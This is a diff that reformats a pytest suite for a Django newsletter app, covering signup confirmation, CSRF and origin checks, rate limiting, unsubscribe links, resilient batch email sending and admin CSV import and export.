@@ -32,8 +32,14 @@ def signup(client, email="reader@example.org", **extra):
 def run_worker():
     """Run every queued task, as `manage.py db_worker --batch` does, in this process."""
     Worker(
-        queue_names=["default"], interval=0, batch=True, backend_name="default",
-        startup_delay=False, max_tasks=None, worker_id="test-worker", excluded_queue_names=[],
+        queue_names=["default"],
+        interval=0,
+        batch=True,
+        backend_name="default",
+        startup_delay=False,
+        max_tasks=None,
+        worker_id="test-worker",
+        excluded_queue_names=[],
     ).run()
 
 
@@ -53,7 +59,9 @@ def test_signup_confirm_flow_through_real_smtp(client, smtp_server, settings):
     subscriber = Subscriber.objects.get()
     assert subscriber.email == "reader@example.org"
     assert subscriber.status == Subscriber.Status.PENDING
-    assert subscriber.consent_version == "2025-1" and "I agree" in subscriber.consent_text
+    assert (
+        subscriber.consent_version == "2025-1" and "I agree" in subscriber.consent_text
+    )
     assert subscriber.ip_address == "127.0.0.1" and subscriber.source == "footer"
 
     assert smtp_server.messages == []  # the worker sends it, not the visitor's request
@@ -66,9 +74,13 @@ def test_signup_confirm_flow_through_real_smtp(client, smtp_server, settings):
     path = link.removeprefix(settings.SITE_URL)
 
     page = client.get(path)
-    assert page.status_code == 200 and "Confirm my subscription" in page.content.decode()
+    assert (
+        page.status_code == 200 and "Confirm my subscription" in page.content.decode()
+    )
     subscriber.refresh_from_db()
-    assert subscriber.status == Subscriber.Status.PENDING  # a GET (link scanner) changes nothing
+    assert (
+        subscriber.status == Subscriber.Status.PENDING
+    )  # a GET (link scanner) changes nothing
 
     done = client.post(path)
     assert "Subscription confirmed" in done.content.decode()
@@ -85,7 +97,12 @@ def test_identical_answers_whatever_the_address_state(client, smtp_server):
     SubscriberFactory(email="member@example.org")
     SubscriberFactory(email="left@example.org", status="unsubscribed")
     answers = []
-    for email in ["new@example.org", "pending@example.org", "MEMBER@example.org", "left@example.org"]:
+    for email in [
+        "new@example.org",
+        "pending@example.org",
+        "MEMBER@example.org",
+        "left@example.org",
+    ]:
         response = signup(client, email)
         answers.append((response.status_code, response.content.decode()))
     assert len(set(answers)) == 1 and answers[0][0] == 200
@@ -111,7 +128,10 @@ def test_fetch_signup_returns_the_fragment(client, mailoutbox):
 @pytest.mark.parametrize(
     "data, error",
     [
-        ({"email": "not-an-address", "name": "Kim", "consent": "on"}, "Enter an email address like"),
+        (
+            {"email": "not-an-address", "name": "Kim", "consent": "on"},
+            "Enter an email address like",
+        ),
         ({"email": "", "name": "Kim", "consent": "on"}, "Enter your email address."),
         ({"email": "kim@example.org", "name": "Kim"}, "Tick the box to agree"),
     ],
@@ -146,8 +166,11 @@ def test_signups_per_ip_are_rate_limited(client, mailoutbox, settings):
     assert "Too many signups" in blocked.content.decode()
     assert 'value="three@example.org"' in blocked.content.decode()
     assert not Subscriber.objects.filter(email="three@example.org").exists()
-    other_ip = client.post(reverse("newsletter:signup"), {"email": "four@example.org", "consent": "on"},
-                           REMOTE_ADDR="10.0.0.9")
+    other_ip = client.post(
+        reverse("newsletter:signup"),
+        {"email": "four@example.org", "consent": "on"},
+        REMOTE_ADDR="10.0.0.9",
+    )
     assert other_ip.status_code == 200
 
 
@@ -156,9 +179,14 @@ def test_expired_and_tampered_confirmation_links_show_a_clear_page(client, setti
     subscriber = SubscriberFactory(status="pending")
     token = confirmation_token(subscriber)
     tampered = client.get(reverse("newsletter:confirm", args=[token[:-2] + "xx"]))
-    assert tampered.status_code == 400 and "This link does not work" in tampered.content.decode()
+    assert (
+        tampered.status_code == 400
+        and "This link does not work" in tampered.content.decode()
+    )
     assert "Subscribe" in tampered.content.decode()  # the form to ask for a new link
-    assert client.post(reverse("newsletter:confirm", args=["garbage"])).status_code == 400
+    assert (
+        client.post(reverse("newsletter:confirm", args=["garbage"])).status_code == 400
+    )
     settings.NEWSLETTER_CONFIRM_MAX_AGE = -1
     expired = client.post(reverse("newsletter:confirm", args=[token]))
     assert expired.status_code == 400
@@ -170,7 +198,9 @@ def test_expired_and_tampered_confirmation_links_show_a_clear_page(client, setti
 def test_old_confirmation_link_cannot_resubscribe_after_leaving(client):
     subscriber = SubscriberFactory(status="pending")
     token = confirmation_token(subscriber)
-    client.post(reverse("newsletter:unsubscribe", args=[unsubscribe_token(subscriber.pk)]))
+    client.post(
+        reverse("newsletter:unsubscribe", args=[unsubscribe_token(subscriber.pk)])
+    )
     assert client.post(reverse("newsletter:confirm", args=[token])).status_code == 400
     subscriber.refresh_from_db()
     assert subscriber.status == "unsubscribed"
@@ -191,10 +221,18 @@ def test_unsubscribe_get_shows_button_post_unsubscribes_without_csrf(settings):
     subscriber.refresh_from_db()
     assert subscriber.status == "unsubscribed" and subscriber.unsubscribed_at
     assert client.post(url).status_code == 200  # twice is harmless
-    assert client.post(reverse("newsletter:unsubscribe", args=["forged"])).status_code == 400
+    assert (
+        client.post(reverse("newsletter:unsubscribe", args=["forged"])).status_code
+        == 400
+    )
     # The confirmation form still needs its CSRF token.
     pending = SubscriberFactory(status="pending")
-    assert client.post(reverse("newsletter:confirm", args=[confirmation_token(pending)])).status_code == 403
+    assert (
+        client.post(
+            reverse("newsletter:confirm", args=[confirmation_token(pending)])
+        ).status_code
+        == 403
+    )
 
 
 @pytest.mark.django_db
@@ -203,12 +241,24 @@ def test_unsubscribe_get_shows_button_post_unsubscribes_without_csrf(settings):
     [
         ({}, 200),  # no browser metadata at all: not a cross-site form
         ({"HTTP_SEC_FETCH_SITE": "same-origin"}, 200),
-        ({"HTTP_SEC_FETCH_SITE": "same-origin", "HTTP_ORIGIN": "http://testserver"}, 200),
+        (
+            {"HTTP_SEC_FETCH_SITE": "same-origin", "HTTP_ORIGIN": "http://testserver"},
+            200,
+        ),
         ({"HTTP_ORIGIN": "http://testserver"}, 200),
         ({"HTTP_ORIGIN": "https://portal.example.org"}, 200),  # in CSRF_TRUSTED_ORIGINS
         ({"HTTP_SEC_FETCH_SITE": "cross-site"}, 403),
-        ({"HTTP_SEC_FETCH_SITE": "cross-site", "HTTP_ORIGIN": "http://testserver"}, 403),
-        ({"HTTP_SEC_FETCH_SITE": "same-site", "HTTP_ORIGIN": "https://other.example.org"}, 403),
+        (
+            {"HTTP_SEC_FETCH_SITE": "cross-site", "HTTP_ORIGIN": "http://testserver"},
+            403,
+        ),
+        (
+            {
+                "HTTP_SEC_FETCH_SITE": "same-site",
+                "HTTP_ORIGIN": "https://other.example.org",
+            },
+            403,
+        ),
         ({"HTTP_ORIGIN": "https://attacker.example"}, 403),
         ({"HTTP_ORIGIN": "null"}, 403),
     ],
@@ -219,21 +269,34 @@ def test_signup_needs_no_token_but_refuses_other_sites(settings, headers, status
 
     settings.CSRF_TRUSTED_ORIGINS = ["https://portal.example.org"]
     response = Client(enforce_csrf_checks=True).post(
-        reverse("newsletter:signup"), {"email": "Typed@Example.org", "name": "Dara", "consent": "on"}, **headers
+        reverse("newsletter:signup"),
+        {"email": "Typed@Example.org", "name": "Dara", "consent": "on"},
+        **headers,
     )
     assert response.status_code == status
-    assert Subscriber.objects.filter(email="typed@example.org").exists() is (status == 200)
+    assert Subscriber.objects.filter(email="typed@example.org").exists() is (
+        status == 200
+    )
     if status == 403:
         html = response.content.decode()
         assert "sent from another web site" in html and "nothing was saved" in html
-        assert 'value="Typed@Example.org"' in html and 'value="Dara"' in html  # what was typed is kept
+        assert (
+            'value="Typed@Example.org"' in html and 'value="Dara"' in html
+        )  # what was typed is kept
 
 
 @pytest.mark.django_db
 def test_reading_pages_sets_no_cookie(client):
     """Readers get no cookie at all, on a page with a comment form too (it carries no CSRF token)."""
     post = PostFactory(allow_comments=True)
-    for url in ["/", "/posts/", "/publications/", "/search/?q=hotline", reverse("newsletter:page"), "/safety/"]:
+    for url in [
+        "/",
+        "/posts/",
+        "/publications/",
+        "/search/?q=hotline",
+        reverse("newsletter:page"),
+        "/safety/",
+    ]:
         response = client.get(url)
         assert response.status_code == 200, url
         assert not response.cookies, (url, response.cookies)
@@ -253,7 +316,9 @@ def test_resubscribe_after_leaving_needs_a_new_confirmation(client, mailoutbox):
 
 @pytest.mark.django_db
 def test_purge_erases_old_ips_only():
-    old = SubscriberFactory(ip_address="192.0.2.1", consented_at=timezone.now() - timedelta(days=40))
+    old = SubscriberFactory(
+        ip_address="192.0.2.1", consented_at=timezone.now() - timedelta(days=40)
+    )
     recent = SubscriberFactory(ip_address="192.0.2.2")
     from django.core.management import call_command
 
@@ -269,8 +334,16 @@ def test_case_insensitive_unique_constraint():
 
     SubscriberFactory(email="dup@example.org")
     with pytest.raises(IntegrityError):
-        Subscriber.objects.bulk_create([Subscriber(email="DUP@example.org", source="footer",
-                                                   consent_version="x", consent_text="x")])
+        Subscriber.objects.bulk_create(
+            [
+                Subscriber(
+                    email="DUP@example.org",
+                    source="footer",
+                    consent_version="x",
+                    consent_text="x",
+                )
+            ]
+        )
 
 
 @pytest.mark.django_db(transaction=True)
@@ -304,9 +377,16 @@ def test_concurrent_signups_of_one_address_leave_one_row(mailoutbox):
 def test_signup_finds_an_address_through_the_unique_index():
     """The lookup of an address in any case uses the lower(email) index, not a table scan."""
     SubscriberFactory(email="known@example.org")
-    assert Subscriber.objects.with_email(" Known@Example.ORG ").get().email == "known@example.org"
+    assert (
+        Subscriber.objects.with_email(" Known@Example.ORG ").get().email
+        == "known@example.org"
+    )
     if connection.vendor == "postgresql":
-        plan = Subscriber.objects.with_email("known@example.org").order_by("pk")[:1].explain()
+        plan = (
+            Subscriber.objects.with_email("known@example.org")
+            .order_by("pk")[:1]
+            .explain()
+        )
         assert "newsletter_subscriber_email_ci_unique" in plan
 
 
@@ -316,9 +396,15 @@ def test_signup_finds_an_address_through_the_unique_index():
 @pytest.mark.django_db
 def test_footer_form_on_every_page_and_nav_link(client):
     post = PostFactory()
-    for url in [reverse("home"), post.get_absolute_url(), reverse("newsletter:archive")]:
+    for url in [
+        reverse("home"),
+        post.get_absolute_url(),
+        reverse("newsletter:archive"),
+    ]:
         html = client.get(url).content.decode()
-        assert 'action="/newsletter/subscribe/"' in html and "I agree to receive" in html
+        assert (
+            'action="/newsletter/subscribe/"' in html and "I agree to receive" in html
+        )
         assert 'href="/newsletter/"' in html
 
 
@@ -333,7 +419,9 @@ def test_newsletter_page_explains_and_links_archive(client):
 
 @pytest.mark.django_db
 def test_archive_shows_only_sent_campaigns(client):
-    sent = CampaignFactory(subject="Sent edition", status="sent", sent_at=timezone.now())
+    sent = CampaignFactory(
+        subject="Sent edition", status="sent", sent_at=timezone.now()
+    )
     draft = CampaignFactory(subject="Draft edition")
     html = client.get(reverse("newsletter:archive")).content.decode()
     assert "Sent edition" in html and "Draft edition" not in html
@@ -364,7 +452,9 @@ def _send_to(count, **campaign_fields):
 
 
 @pytest.mark.django_db(transaction=True)
-def test_campaign_to_200_subscribers_exactly_once_with_one_click_unsubscribe(client, smtp_server, settings):
+def test_campaign_to_200_subscribers_exactly_once_with_one_click_unsubscribe(
+    client, smtp_server, settings
+):
     settings.NEWSLETTER_BATCH_SIZE = 50
     SubscriberFactory(status="pending", email="pending@example.org")
     SubscriberFactory(status="unsubscribed", email="left@example.org")
@@ -373,20 +463,27 @@ def test_campaign_to_200_subscribers_exactly_once_with_one_click_unsubscribe(cli
     received = [entry["to"][0] for entry in smtp_server.messages]
     assert sorted(received) == sorted(s.email for s in subscribers)  # exactly once each
     campaign.refresh_from_db()
-    assert campaign.status == "sent" and campaign.sent_count == 200 and campaign.recipient_count == 200
+    assert (
+        campaign.status == "sent"
+        and campaign.sent_count == 200
+        and campaign.recipient_count == 200
+    )
     message = smtp_server.messages[17]["message"]
     assert message["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
     link = message["List-Unsubscribe"].strip().strip("<>")
     assert link.startswith("http") and "/newsletter/unsubscribe/" in link
-    assert link in text_part(message) and link in message.get_body(("html",)).get_content()
+    assert (
+        link in text_part(message) and link in message.get_body(("html",)).get_content()
+    )
     assert campaign.get_absolute_url() in text_part(message)  # view in browser
     html = message.get_body(("html",)).get_content()
-    assert 'style="' in html and f'{settings.SITE_URL}/posts/' in html
+    assert 'style="' in html and f"{settings.SITE_URL}/posts/" in html
     # One-click: what a mailbox provider sends, without cookies or CSRF token.
     from django.test import Client
 
     response = Client(enforce_csrf_checks=True).post(
-        link.removeprefix(settings.SITE_URL), "List-Unsubscribe=One-Click",
+        link.removeprefix(settings.SITE_URL),
+        "List-Unsubscribe=One-Click",
         content_type="application/x-www-form-urlencoded",
     )
     assert response.status_code == 200
@@ -396,7 +493,9 @@ def test_campaign_to_200_subscribers_exactly_once_with_one_click_unsubscribe(cli
 
 @pytest.mark.django_db(transaction=True)
 def test_no_tracking_in_campaign_email(smtp_server):
-    campaign, _subscribers = _send_to(1, body='<p><a href="https://example.org/x">x</a></p>')
+    campaign, _subscribers = _send_to(
+        1, body='<p><a href="https://example.org/x">x</a></p>'
+    )
     run_worker()
     html = smtp_server.messages[0]["message"].get_body(("html",)).get_content()
     assert 'href="https://example.org/x"' in html  # links not redirected
@@ -408,7 +507,9 @@ class WorkerKilled(BaseException):
 
 
 @pytest.mark.django_db(transaction=True)
-def test_worker_killed_mid_batch_and_restarted_delivers_exactly_once(smtp_server, settings, monkeypatch):
+def test_worker_killed_mid_batch_and_restarted_delivers_exactly_once(
+    smtp_server, settings, monkeypatch
+):
     """A worker dies after 30 of a 50-row batch; after the lease, the rest go out once."""
     settings.NEWSLETTER_BATCH_SIZE = 50
     campaign, subscribers = _send_to(120)
@@ -426,16 +527,28 @@ def test_worker_killed_mid_batch_and_restarted_delivers_exactly_once(smtp_server
     monkeypatch.setattr(sending.BatchSender, "mark_sent", mark_then_die)
     # The in-process worker records the task as failed; a killed one would leave it
     # running. Either way the successor was queued before sending began.
-    Worker(queue_names=["default"], interval=0, batch=True, backend_name="default", startup_delay=False,
-           max_tasks=1, worker_id="dies", excluded_queue_names=[]).run()
+    Worker(
+        queue_names=["default"],
+        interval=0,
+        batch=True,
+        backend_name="default",
+        startup_delay=False,
+        max_tasks=1,
+        worker_id="dies",
+        excluded_queue_names=[],
+    ).run()
     monkeypatch.setattr(sending.BatchSender, "mark_sent", original_mark)
     assert len(smtp_server.messages) == 30
-    assert Delivery.objects.filter(status="pending").exclude(claimed_by="").count() == 20
+    assert (
+        Delivery.objects.filter(status="pending").exclude(claimed_by="").count() == 20
+    )
     # Restarted before the lease expires: other rows go, the dead claim waits.
     run_worker()
     assert len(smtp_server.messages) == 100
     # The lease runs out; the successor queued as a watchdog takes the rest.
-    Delivery.objects.exclude(claimed_by="").update(claimed_until=timezone.now() - timedelta(seconds=1))
+    Delivery.objects.exclude(claimed_by="").update(
+        claimed_until=timezone.now() - timedelta(seconds=1)
+    )
     from django_tasks_db.models import DBTaskResult
 
     DBTaskResult.objects.filter(status="READY").update(run_after=timezone.now())
@@ -449,7 +562,9 @@ def test_worker_killed_mid_batch_and_restarted_delivers_exactly_once(smtp_server
 
 
 @pytest.mark.django_db(transaction=True)
-def test_sigterm_mid_batch_stops_cleanly_and_restart_finishes(smtp_server, settings, monkeypatch):
+def test_sigterm_mid_batch_stops_cleanly_and_restart_finishes(
+    smtp_server, settings, monkeypatch
+):
     """A stop request lets the current message finish, releases the rest of the batch."""
     settings.NEWSLETTER_BATCH_SIZE = 80
     campaign, subscribers = _send_to(100)
@@ -472,8 +587,16 @@ def test_sigterm_mid_batch_stops_cleanly_and_restart_finishes(smtp_server, setti
 
     monkeypatch.setattr(sending.BatchSender, "mark_sent", mark_and_maybe_signal)
     monkeypatch.setattr(sending.BatchSender, "run", run)
-    worker = Worker(queue_names=["default"], interval=0, batch=True, backend_name="default",
-                    startup_delay=False, max_tasks=None, worker_id="w1", excluded_queue_names=[])
+    worker = Worker(
+        queue_names=["default"],
+        interval=0,
+        batch=True,
+        backend_name="default",
+        startup_delay=False,
+        max_tasks=None,
+        worker_id="w1",
+        excluded_queue_names=[],
+    )
     worker.configure_signals()  # as `manage.py db_worker` does
     try:
         worker.run()
@@ -536,7 +659,11 @@ def test_temporary_failure_retried_permanent_failure_recorded(settings):
         bounce = Delivery.objects.get(subscriber__email="bounce@example.org")
         assert bounce.status == "failed" and "550" in bounce.error
         busy = Delivery.objects.get(subscriber__email="busy@example.org")
-        assert busy.status == "pending" and busy.attempts == 1 and busy.next_attempt_at > timezone.now()
+        assert (
+            busy.status == "pending"
+            and busy.attempts == 1
+            and busy.next_attempt_at > timezone.now()
+        )
         campaign.refresh_from_db()
         assert campaign.status == "sending"
         handler.busy = False
@@ -548,7 +675,11 @@ def test_temporary_failure_retried_permanent_failure_recorded(settings):
         busy.refresh_from_db()
         assert busy.status == "sent"
         campaign.refresh_from_db()
-        assert campaign.status == "sent" and campaign.failed_count == 1 and campaign.sent_count == 2
+        assert (
+            campaign.status == "sent"
+            and campaign.failed_count == 1
+            and campaign.sent_count == 2
+        )
     finally:
         controller.stop()
 
@@ -589,18 +720,29 @@ def test_admin_send_test_and_confirmation_page(client, smtp_server):
     client.post(changelist, {"action": "send_test", "_selected_action": [campaign.pk]})
     assert [m["to"] for m in smtp_server.messages] == [["manager@example.org"]]
     assert smtp_server.messages[0]["message"]["Subject"] == "[Test] May edition"
-    response = client.post(changelist, {"action": "send_to_subscribers", "_selected_action": [campaign.pk]}, follow=True)
+    response = client.post(
+        changelist,
+        {"action": "send_to_subscribers", "_selected_action": [campaign.pk]},
+        follow=True,
+    )
     html = response.content.decode()
     assert "4 confirmed subscribers" in html
     campaign.refresh_from_db()
     assert campaign.status == "draft"  # nothing sent before confirming
-    client.post(reverse("admin:newsletter_campaign_send", args=[campaign.pk]), {"confirm": "yes"})
+    client.post(
+        reverse("admin:newsletter_campaign_send", args=[campaign.pk]),
+        {"confirm": "yes"},
+    )
     campaign.refresh_from_db()
     assert campaign.status == "sending" and campaign.recipient_count == 4
-    page = client.get(reverse("admin:newsletter_campaign_change", args=[campaign.pk])).content.decode()
+    page = client.get(
+        reverse("admin:newsletter_campaign_change", args=[campaign.pk])
+    ).content.decode()
     assert "<progress" in page and "remaining 4 of 4" in page
     run_worker()
-    page = client.get(reverse("admin:newsletter_campaign_change", args=[campaign.pk])).content.decode()
+    page = client.get(
+        reverse("admin:newsletter_campaign_change", args=[campaign.pk])
+    ).content.decode()
     assert "sent 4, failed 0" in page
 
 
@@ -614,17 +756,28 @@ def test_csv_export_only_for_newsletter_managers(client):
     client.force_login(StaffFactory(groups=["Newsletter managers"]))
     response = client.get(url)
     body = b"".join(response.streaming_content).decode()
-    assert response.status_code == 200 and "listed@example.org,Listed,subscribed" in body
-    assert Group.objects.get(name="Newsletter managers").permissions.filter(codename="export_subscriber").exists()
+    assert (
+        response.status_code == 200 and "listed@example.org,Listed,subscribed" in body
+    )
+    assert (
+        Group.objects.get(name="Newsletter managers")
+        .permissions.filter(codename="export_subscriber")
+        .exists()
+    )
 
 
 @pytest.mark.django_db
 @pytest.mark.parametrize("count", [5, 50])
-def test_subscriber_changelist_query_count_is_constant(client, django_assert_max_num_queries, count):
+def test_subscriber_changelist_query_count_is_constant(
+    client, django_assert_max_num_queries, count
+):
     SubscriberFactory.create_batch(count)
     client.force_login(StaffFactory(is_superuser=True))
     with django_assert_max_num_queries(8):
-        assert client.get(reverse("admin:newsletter_subscriber_changelist")).status_code == 200
+        assert (
+            client.get(reverse("admin:newsletter_subscriber_changelist")).status_code
+            == 200
+        )
 
 
 def _import(client, content):
@@ -650,7 +803,11 @@ def test_csv_import_all_or_nothing_with_line_numbers_and_no_duplicates(client):
     response = _import(client, bad)
     html = response.content.decode()
     assert response.status_code == 400 and "Nothing was imported" in html
-    assert "<td>3</td><td>not-an-email</td>" in html and "<td>4</td>" in html and "<td>5</td>" in html
+    assert (
+        "<td>3</td><td>not-an-email</td>" in html
+        and "<td>4</td>" in html
+        and "<td>5</td>" in html
+    )
     assert "Repeats line 2" in html
     assert not Subscriber.objects.filter(email="ok@example.org").exists()
 
@@ -658,8 +815,14 @@ def test_csv_import_all_or_nothing_with_line_numbers_and_no_duplicates(client):
     response = _import(client, good)
     assert response.status_code == 200
     ok = Subscriber.objects.get(email="ok@example.org")
-    assert ok.status == "subscribed" and ok.consent_source == "Paper form" and ok.consented_at.year == 2024
-    assert Subscriber.objects.get(email="left@example.org").status == "unsubscribed"  # never resubscribed
+    assert (
+        ok.status == "subscribed"
+        and ok.consent_source == "Paper form"
+        and ok.consented_at.year == 2024
+    )
+    assert (
+        Subscriber.objects.get(email="left@example.org").status == "unsubscribed"
+    )  # never resubscribed
     _import(client, good)  # again: no duplicates
     assert Subscriber.objects.filter(email="ok@example.org").count() == 1
 
@@ -669,7 +832,10 @@ def test_csv_import_all_or_nothing_with_line_numbers_and_no_duplicates(client):
     "content, message",
     [
         (b"mail,source\nx@example.org,y\n", "missing: consent_source, email"),
-        ("email,consent_source\nnoël@example.org,form\n".encode("latin-1"), "not UTF-8"),
+        (
+            "email,consent_source\nnoël@example.org,form\n".encode("latin-1"),
+            "not UTF-8",
+        ),
     ],
 )
 def test_csv_import_rejects_bad_files(client, content, message):
@@ -694,25 +860,64 @@ def test_fast_message_bytes_match_the_full_build(settings, language):
 
     from newsletter.emails import CampaignEmail
 
-    long_paragraph = "<p>" + " ".join(["Referral across borders improved."] * 60) + "</p>"
-    campaign = CampaignFactory(body=long_paragraph + '<ul><li>One</li><li><a href="/posts/">Two</a></li></ul>')
+    long_paragraph = (
+        "<p>" + " ".join(["Referral across borders improved."] * 60) + "</p>"
+    )
+    campaign = CampaignFactory(
+        body=long_paragraph + '<ul><li>One</li><li><a href="/posts/">Two</a></li></ul>'
+    )
     email = CampaignEmail(campaign)
-    fast = message_from_bytes(email.message_bytes(email="reader@example.org", subscriber_id=7, delivery_id=3, language=language), policy=default)
+    fast = message_from_bytes(
+        email.message_bytes(
+            email="reader@example.org",
+            subscriber_id=7,
+            delivery_id=3,
+            language=language,
+        ),
+        policy=default,
+    )
     assert email.frame(language).template  # the shortcut was used
-    full = email.message(email="reader@example.org", subscriber_id=7, delivery_id=3, language=language).message()
+    full = email.message(
+        email="reader@example.org", subscriber_id=7, delivery_id=3, language=language
+    ).message()
     full = message_from_bytes(full.as_bytes(linesep="\r\n"), policy=default)
-    for header in ["To", "Subject", "Message-ID", "List-Unsubscribe", "List-Unsubscribe-Post", "List-Id"]:
+    for header in [
+        "To",
+        "Subject",
+        "Message-ID",
+        "List-Unsubscribe",
+        "List-Unsubscribe-Post",
+        "List-Id",
+    ]:
         assert fast[header].strip() == full[header].strip(), header
-    assert fast.get_body(("plain",)).get_content() == full.get_body(("plain",)).get_content()
-    assert fast.get_body(("html",)).get_content() == full.get_body(("html",)).get_content()
+    assert (
+        fast.get_body(("plain",)).get_content()
+        == full.get_body(("plain",)).get_content()
+    )
+    assert (
+        fast.get_body(("html",)).get_content() == full.get_body(("html",)).get_content()
+    )
     assert "- One" in fast.get_body(("plain",)).get_content()
-    assert f"/{language}/newsletter/language/" in fast.get_body(("plain",)).get_content() or language == "en"
-    assert max(len(line) for line in email.message_bytes(email="r@example.org", subscriber_id=1, delivery_id=1, language=language).split(b"\r\n")) < 998
+    assert (
+        f"/{language}/newsletter/language/" in fast.get_body(("plain",)).get_content()
+        or language == "en"
+    )
+    assert (
+        max(
+            len(line)
+            for line in email.message_bytes(
+                email="r@example.org", subscriber_id=1, delivery_id=1, language=language
+            ).split(b"\r\n")
+        )
+        < 998
+    )
 
 
 @pytest.mark.browser
 @pytest.mark.django_db(transaction=True)
-def test_browser_signup_in_footer_then_confirm_from_email(page, live_server, smtp_server, settings, screenshot):
+def test_browser_signup_in_footer_then_confirm_from_email(
+    page, live_server, smtp_server, settings, screenshot
+):
     """Sign up in the footer of a post (in place, with JS), follow the emailed link, confirm."""
     settings.SITE_URL = live_server.url
     post = PostFactory(title="Helpline now open at night")
@@ -741,8 +946,12 @@ def test_browser_signup_in_footer_then_confirm_from_email(page, live_server, smt
 
 @pytest.mark.browser
 @pytest.mark.django_db(transaction=True)
-def test_browser_signup_without_javascript_and_with_errors(browser, live_server, mailoutbox, screenshot):
-    context = browser.new_context(java_script_enabled=False, viewport={"width": 390, "height": 844})
+def test_browser_signup_without_javascript_and_with_errors(
+    browser, live_server, mailoutbox, screenshot
+):
+    context = browser.new_context(
+        java_script_enabled=False, viewport={"width": 390, "height": 844}
+    )
     page = context.new_page()
     try:
         page.goto(live_server.url + reverse("newsletter:page"))
@@ -756,7 +965,9 @@ def test_browser_signup_without_javascript_and_with_errors(browser, live_server,
         page.locator("main input[type=checkbox]").check()
         page.locator("main").get_by_role("button", name="Subscribe").click()
         assert "Please check your inbox" in page.content()
-        assert Subscriber.objects.filter(email="nojs@example.org", source="page").exists()
+        assert Subscriber.objects.filter(
+            email="nojs@example.org", source="page"
+        ).exists()
     finally:
         context.close()
 
@@ -787,17 +998,31 @@ def test_campaign_sends_with_every_email_backend(settings, tmp_path, capsys, bac
     campaign, subscribers = _send_to(3, subject="Backend edition")
     run_worker()
     campaign.refresh_from_db()
-    assert campaign.status == "sent" and campaign.sent_count == 3 and not campaign.last_error
+    assert (
+        campaign.status == "sent"
+        and campaign.sent_count == 3
+        and not campaign.last_error
+    )
     written = {
-        "django.core.mail.backends.locmem.EmailBackend": lambda: "".join(m.message().as_string() for m in mail.outbox),
-        "django.core.mail.backends.console.EmailBackend": lambda: capsys.readouterr().out,
-        "django.core.mail.backends.filebased.EmailBackend": lambda: "".join(p.read_text() for p in (tmp_path / "mail").iterdir()),
-        "tests.email_backends.ProviderAPIBackend": lambda: b"".join(email_backends.sent).decode(),
+        "django.core.mail.backends.locmem.EmailBackend": lambda: "".join(
+            m.message().as_string() for m in mail.outbox
+        ),
+        "django.core.mail.backends.console.EmailBackend": lambda: (
+            capsys.readouterr().out
+        ),
+        "django.core.mail.backends.filebased.EmailBackend": lambda: "".join(
+            p.read_text() for p in (tmp_path / "mail").iterdir()
+        ),
+        "tests.email_backends.ProviderAPIBackend": lambda: b"".join(
+            email_backends.sent
+        ).decode(),
     }[backend]()
     for subscriber in subscribers:
         assert written.count(f"To: {subscriber.email}") == 1
     assert written.count("List-Unsubscribe-Post: List-Unsubscribe=One-Click") == 3
-    assert "/newsletter/unsubscribe/" in written and "Subject: Backend edition" in written
+    assert (
+        "/newsletter/unsubscribe/" in written and "Subject: Backend edition" in written
+    )
 
 
 @pytest.mark.django_db(transaction=True)
@@ -809,12 +1034,23 @@ def test_a_send_that_keeps_failing_shows_staff_why(client, settings):
     run_worker()
     campaign.refresh_from_db()
     assert campaign.status == "sending" and campaign.is_stalled
-    assert campaign.failing_attempts == 1 and "401 Unauthorized: API key expired" in campaign.last_error
+    assert (
+        campaign.failing_attempts == 1
+        and "401 Unauthorized: API key expired" in campaign.last_error
+    )
     assert Delivery.objects.filter(status="pending", attempts=1).count() == 2
     client.force_login(StaffFactory(is_superuser=True))
-    listing = client.get(reverse("admin:newsletter_campaign_changelist")).content.decode()
-    assert "Not progressing" in listing and "API key expired" in listing and "Attempts without progress: 1." in listing
-    page = client.get(reverse("admin:newsletter_campaign_change", args=[campaign.pk])).content.decode()
+    listing = client.get(
+        reverse("admin:newsletter_campaign_changelist")
+    ).content.decode()
+    assert (
+        "Not progressing" in listing
+        and "API key expired" in listing
+        and "Attempts without progress: 1." in listing
+    )
+    page = client.get(
+        reverse("admin:newsletter_campaign_change", args=[campaign.pk])
+    ).content.decode()
     assert "Not progressing." in page and "API key expired" in page
     assert "Most attempts on one waiting message: 1." in page
     # The backend works again: the next batch sends and the warning goes.
@@ -825,18 +1061,31 @@ def test_a_send_that_keeps_failing_shows_staff_why(client, settings):
     DBTaskResult.objects.filter(status="READY").update(run_after=timezone.now())
     run_worker()
     campaign.refresh_from_db()
-    assert campaign.status == "sent" and campaign.sent_count == 2 and not campaign.is_stalled
+    assert (
+        campaign.status == "sent"
+        and campaign.sent_count == 2
+        and not campaign.is_stalled
+    )
 
 
 @pytest.mark.django_db
 @pytest.mark.parametrize("count", [3, 30])
-def test_campaign_changelist_query_count_is_constant(client, django_assert_max_num_queries, count):
+def test_campaign_changelist_query_count_is_constant(
+    client, django_assert_max_num_queries, count
+):
     """The status column (progress, not progressing, last error) costs no query per row."""
     for number in range(count):
-        CampaignFactory(status="sending", sent_at=None, failing_attempts=number % 2, last_error="451 busy")
+        CampaignFactory(
+            status="sending",
+            sent_at=None,
+            failing_attempts=number % 2,
+            last_error="451 busy",
+        )
     client.force_login(StaffFactory(is_superuser=True))
     with django_assert_max_num_queries(9):
-        html = client.get(reverse("admin:newsletter_campaign_changelist")).content.decode()
+        html = client.get(
+            reverse("admin:newsletter_campaign_changelist")
+        ).content.decode()
     assert html.count("Not progressing") >= count // 2
 
 
@@ -849,7 +1098,9 @@ def test_a_send_with_no_worker_is_shown_as_not_progressing(client, time_machine)
     time_machine.move_to(timezone.now() + timedelta(minutes=11))
     assert campaign.is_stalled
     client.force_login(StaffFactory(is_superuser=True))
-    page = client.get(reverse("admin:newsletter_campaign_change", args=[campaign.pk])).content.decode()
+    page = client.get(
+        reverse("admin:newsletter_campaign_change", args=[campaign.pk])
+    ).content.decode()
     assert "Not progressing." in page and "manage.py db_worker" in page
 
 
@@ -862,7 +1113,11 @@ def hanging_smtp(settings):
 
     server = HangingSMTPServer()
     settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
-    settings.EMAIL_HOST, settings.EMAIL_PORT, settings.EMAIL_TIMEOUT = "127.0.0.1", server.port, 20
+    settings.EMAIL_HOST, settings.EMAIL_PORT, settings.EMAIL_TIMEOUT = (
+        "127.0.0.1",
+        server.port,
+        20,
+    )
     yield server
     server.stop()
 
@@ -878,9 +1133,19 @@ def test_signup_does_not_wait_for_a_hanging_mail_server(client, hanging_smtp):
     started = time.monotonic()
     response = signup(client, "patient@example.org")
     assert time.monotonic() - started < 2
